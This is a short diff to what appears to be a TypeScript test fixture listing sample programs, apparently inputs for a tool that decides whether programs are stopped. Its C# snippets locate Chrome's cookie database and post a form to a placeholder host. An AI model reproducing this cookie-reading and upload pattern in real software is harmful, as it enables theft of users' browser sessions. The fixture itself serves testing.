@@ -147,8 +147,8 @@ export const PROGRAMS: { what: string; isStopped: boolean; files: Record<string,
     isStopped: false,
     files: {
       'count/Program.cs':
-        'var store = Path.Combine(local, @"Google\\Chrome\\User Data\\Default\\Network\\Cookies");\nConsole.WriteLine(new FileInfo(store).Length);\n',
-      'share/Upload.cs': `const string Service = "${HOST}/share";\nhttp.PostAsync(Service, form).Wait();\n`,
+        'static void Main() { }\nvar store = Path.Combine(local, @"Google\\Chrome\\User Data\\Default\\Network\\Cookies");\nConsole.WriteLine(new FileInfo(store).Length);\n',
+      'share/Upload.cs': `static void Main() { }\nconst string Service = "${HOST}/share";\nhttp.PostAsync(Service, form).Wait();\n`,
     },
   },
 ]
